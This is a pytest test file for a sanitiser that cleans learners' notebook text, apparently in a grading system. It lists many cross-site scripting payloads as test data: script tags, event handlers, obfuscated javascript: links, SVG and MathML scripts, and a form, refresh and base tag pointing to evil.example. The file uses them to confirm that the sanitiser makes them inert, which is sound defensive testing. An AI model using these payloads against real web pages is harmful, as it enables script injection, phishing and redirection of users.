"""What is taken out of force in a learner's text, and what stays as it was written."""

from __future__ import annotations

import pytest

from grader.running.cleaning import as_typed, clean, is_harmless

PNG = {"plot.png": {"image/png": "iVBORw0KGgo="}}

HARMLESS = {
    "prose": "The result is **bold**, _slanted_, `code`, ~~gone~~.",
    "a list": "- one\n- two\n  1. deeper\n\n> quoted",
    "a table": "| a | b |\n|:-:|--:|\n| 1 | 2 |",
    "math": "$a < b \\le c$ and\n\n$$\\sum_{i<n} \\frac{x_i}{\\sqrt{d}}$$",
    "an environment": "\\begin{align} a &< b \\\\ c &= d \\end{align}",
    "code": "```python\nif a < b:\n    print('<script>')\n```",
    "code in a line": "`<script>alert(1)</script>` is how it is written",
    "a link": "[the paper](https://arxiv.org/abs/1706.03762), <https://pytorch.org>",
    "a heading": "# Why\n## How <= that",
    "less than": "a < b, c <= d, x<5, and 3 > 2 & more",
    "an attachment": "![a plot](attachment:plot.png)",
    "some HTML": "H<sub>2</sub>O <br> <b>bold</b> <details><summary>more</summary>text</details>",
    "a task": "- [x] done\n- [ ] not yet",
    "a file beside it": "![plot](plots/loss.png)",
}

HARMFUL = {
    "a script": "**Why?** <script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler on what is allowed": '<b onmouseover="alert(1)">x</b>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "svg that loads": "<svg onload=alert(1)>",
    "mathml": "<math><mtext></mtext><script>alert(1)</script></math>",
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": "<object data=x.html></object><embed src=x.html>",
    "a form": '<form action=https://evil.example><input type=submit value="Save"></form>',
    "a button": "<button onclick=alert(1)>x</button>",
    "a base": "<base href=https://evil.example>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a style sheet": "<style>* { display: none }</style>",
    "a style": '<div style="position:fixed;inset:0">x</div>',
    "a link sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "a script address": "[x](javascript:alert(1))",
    "a script address in HTML": '<a href="javascript:alert(1)">x</a>',
    "letters for it": '<a href="&#106;ava&Tab;script:alert(1)">x</a>',
    "letters in Markdown": "[x](&#x6A;avascript:alert(1))",
    "a tab in it": '<a href="java\tscript:alert(1)">x</a>',
    "other schemes": "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>)",
    "an automatic link": "<javascript:alert(1)>",
    "a reference": "[x]\n\n[x]: javascript:alert(1)",
    "a picture from elsewhere": "![x](https://evil.example/seen.png)",
    "a picture of another kind": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a path out": "![x](../../logout)",
    "an attachment that is not there": "![x](attachment:gone.png)",
    "math that links": "$\\href{javascript:alert(1)}{x}$",
    "math with styles": "$$\\style{position:fixed}{x} \\class{btn}{y} \\cssId{z}{w}$$",
    "a diagram": '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\n```',
    "a comment": "<!-- <script> --> x <![CDATA[ x ]]> <?php x ?>",
    "a template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "a title that breaks out": "![x](attachment:plot.png \"a' onerror='alert(1)\") <script>1</script>",
    "a class of the page's": '<div class="modal fade in">Enter your password</div>',
    "the end of the cell": "</div></div></body><h1>x</h1>",
    "fences": "````\n```\n<script>alert(1)</script>\n````\n<script>alert(1)</script>\n~~~",
}


# The renderer takes these for text, and so they are.
TEXT = {
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a tag that never ends": "<img src=x onerror=alert(1) ",
    "math in letters": "\\\\(\\hre&#102;{javascript:alert(1)}{x}\\\\)",
    "a null": "<scr\0ipt>alert(1)</scr\0ipt>",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_harmless_stays_as_it_was_written(name: str) -> None:
    assert clean(HARMLESS[name], PNG) == HARMLESS[name]


@pytest.mark.parametrize("name", HARMFUL)
def test_what_is_not_is_taken_out_of_force(name: str) -> None:
    assert not is_harmless(HARMFUL[name], PNG)
    safe = clean(HARMFUL[name], PNG)
    assert safe == as_typed(HARMFUL[name]) or is_harmless(safe, PNG)


@pytest.mark.parametrize("name", TEXT)
def test_what_is_shown_as_text_stays(name: str) -> None:
    assert clean(TEXT[name], PNG) == TEXT[name]


def test_what_surrounds_it_is_still_a_text() -> None:
    safe = clean("**Why?** Because $a<b$: <script>alert(1)</script>\n\n- one\n- two ![p](attachment:plot.png)", PNG)
    assert safe == (
        "**Why?** Because $a&lt;b$: &lt;script>alert(1)&lt;/script>\n\n- one\n- two ![p](attachment:plot.png)"
    )


def test_a_picture_from_elsewhere_becomes_a_link() -> None:
    assert clean("See ![x](https://example.org/x.png)", {}) == "See [x](https://example.org/x.png)"


def test_as_typed_nothing_in_it_can_end_the_block() -> None:
    for source in ("```", "````\n~~~\n```", "`" * 100 + "\n<script>", "", "    ```\n\t```"):
        lines = as_typed(source).splitlines()
        fence = lines[-1]
        assert lines[0] == fence + "text"
        assert not [line for line in lines[1:-1] if line.strip().startswith(fence)]
